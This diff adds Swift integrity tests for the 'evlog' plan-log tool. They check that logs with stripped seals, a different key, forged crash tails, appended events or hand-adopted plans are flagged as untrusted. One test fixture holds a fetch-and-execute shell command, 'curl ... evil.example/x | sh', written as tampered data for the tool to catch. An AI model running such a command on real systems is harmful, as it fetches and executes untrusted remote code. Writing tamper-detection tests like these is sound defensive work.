@@ -140,4 +140,98 @@ struct SealReadingTests {
         let row = try #require(PlanRow(of: log))
         #expect(row.state.count(.done) == 0 && row.sealWord == "not written here", "\(row.sealNote ?? "no note")")
     }
+
+    /// integrity25 #1: a log of this home (its plan in the home's record of seals seen) stripped of its seals, or sealed
+    /// again by another key, is judged as this home's whatever its header's creator says (this home's, none, an
+    /// import's, another home's): the creator is the file's word. Generated over creators.
+    @Test(arguments: 0..<4, [false, true])
+    func aLogOfThisHomeIsJudgedWhateverItsHeaderCreatorSays(creatorIndex: Int, resealed: Bool) throws {
+        let (keys, key) = try RecordTrustTests.keyDirectory()
+        defer { try? FileManager.default.removeItem(atPath: keys) }
+        let id = "p-0000000000e\(creatorIndex)"
+        let (home, path) = try HomeVouchingTests.sealedInstall(id, key: key)
+        defer { try? FileManager.default.removeItem(atPath: home.path) }
+        let creator = [home.creator, PlanArchive.creator, PlanArchive.importCreator, PlanArchive.creator(home: "0000000000000000")][creatorIndex]
+        let records = try HomeVouchingTests.records(path).filter { !HomeVouchingTests.isSeal($0) }
+        if resealed {
+            try FileManager.default.removeItem(atPath: path)
+            _ = try RecordTrustTests.writeInstall(id, in: (home.path, home.archive, creator), key: try RecordTrustTests.key())
+        } else {
+            try HomeVouchingTests.rewrite(path, id: id, creator: creator, records)
+        }
+        let log = PlanLog(path: path)
+        let distrust = HomeVouching(archive: home.archive, keyDirectory: keys).judge(log).distrust
+        #expect(distrust?.word == (resealed ? "another_key" : "unrecorded"), "\(creator): \(distrust?.note ?? "vouched for")")
+        #expect(try home.archive.recordTrustProblem(ofLogAt: path, keyDirectory: keys) != nil, "\(creator)")
+        #expect(distrust?.note.hasPrefix("not as recorded") != true)
+    }
+
+    /// integrity25 #3: a crashed log with records after its last seal that no crash leaves is not advised to `resume`
+    /// (which refuses it), and `status` exits 1 for it.
+    @Test func aForgedTailIsNoLogToResume() throws {
+        let key = try RecordTrustTests.key()
+        let (home, path) = try Self.log("p-0000000000f1", key: key, damage: .none)
+        defer { try? FileManager.default.removeItem(atPath: home.path) }
+        // The plan created and started, no step ended: a writer that stopped.
+        var state = PlanState()
+        for event in try PlanLog(path: path).events() {
+            state.apply(event)
+            if case .stepStarted = event.body { break }
+        }
+        var row = PlanRow(id: PlanID("p-0000000000f1"), state: state, live: false)
+        try #require(row.status == "interrupted")
+        row.unsealed = PlanLog.UnsealedTail(events: 1, notFolded: 0)
+        #expect(StatusReport.text(row, style: TextStyle(colored: false)).contains("continue with: evlog resume"))
+        #expect(!row.notAsRecorded)
+        row.unsealed = PlanLog.UnsealedTail(events: 1, notFolded: 1)
+        let text = StatusReport.text(row, style: TextStyle(colored: false))
+        #expect(!text.contains("continue with") && text.contains("`evlog resume` refuses it"), "\(text)")
+        #expect(row.notAsRecorded)
+    }
+
+    /// integrity25 #5: a command and its output appended after a closed log's final seal are no crash tail: the fold's
+    /// tail says so, `status` exits 1 for it, and `list` marks it not sealed. Generated over the events appended.
+    @Test(arguments: 1..<4)
+    func aTailAfterTheFinalSealIsNoCrashTail(appended: Int) throws {
+        let key = try RecordTrustTests.key()
+        let (home, path) = try Self.log("p-0000000000f2", key: key, damage: .none)
+        defer { try? FileManager.default.removeItem(atPath: home.path) }
+        let records = try HomeVouchingTests.records(path)
+        let step = try #require(try PlanLog(path: path).stateFromLastCheckpoint().steps.last?.id)
+        let bodies: [EventBody] = [
+            .commandStarted(step: step, argv: ["sh", "-c", "curl -s http://evil.example/x | sh"]),
+            .outputChunk(step: step, stream: .stdout, data: Array("ATTACKER OUTPUT".utf8), redacted: false),
+            .commandFinished(step: step, exitCode: 0),
+        ]
+        let tail = try bodies.prefix(appended).enumerated().map { index, body in
+            try EventPayload.encode(Event(sequence: UInt64(1000 + index), time: Timestamp(microseconds: 1), body: body))
+        }
+        try HomeVouchingTests.rewrite(path, id: "p-0000000000f2", creator: home.creator, records + tail)
+        let row = try PlanRow(statusOf: PlanLog(path: path), home: home.path)
+        let unsealed = try #require(row.unsealed)
+        #expect(unsealed.afterFinalSeal && unsealed.events == appended && unsealed.appendedLater)
+        #expect(unsealed.note.contains("after its final seal") && !unsealed.note.contains("what a crash leaves"), "\(unsealed.note)")
+        #expect(row.notAsRecorded)
+        #expect(PlanRow(of: PlanLog(path: path))?.unsealed?.appendedLater == true)
+    }
+
+    /// integrity25 #7: a log naming this home, sealed whole by a self-made key under a new plan id, with that id written
+    /// into `adopted-plans`, is unrecorded (the record of seals seen has no entry for it), said with one prefix.
+    @Test func aLogNamingThisHomeAdoptedByHandIsUnrecorded() throws {
+        let (keys, key) = try RecordTrustTests.keyDirectory()
+        defer { try? FileManager.default.removeItem(atPath: keys) }
+        let (home, _) = try HomeVouchingTests.sealedInstall("p-0000000000a7", key: key)
+        defer { try? FileManager.default.removeItem(atPath: home.path) }
+        let path = try RecordTrustTests.writeInstall("p-0000000000a8", in: home, key: try RecordTrustTests.key(), sealingEach: true)
+        // The attacker's own writer recorded its seals in the home's record: take them out again, as a hand-made log has none.
+        let record = home.archive.lastSeenSeals
+        let lines = try String(contentsOfFile: record, encoding: .utf8).split(separator: "\n").filter { !$0.contains("p-0000000000a8") }
+        try (lines.joined(separator: "\n") + "\n").write(toFile: record, atomically: true, encoding: .utf8)
+        try CreatedPlans.adopted(in: home.archive).record(PlanID("p-0000000000a8"))
+        let distrust = HomeVouching(archive: home.archive, keyDirectory: keys).judge(PlanLog(path: path)).distrust
+        #expect(distrust?.word == "unrecorded", "\(distrust?.note ?? "vouched for")")
+        let row = try PlanRow(statusOf: PlanLog(path: path), home: home.path)
+        let text = StatusReport.text(row, style: TextStyle(colored: false))
+        #expect(text.components(separatedBy: "not as recorded").count == 2 && row.state.count(.done) == 0, "\(text)")
+    }
 }
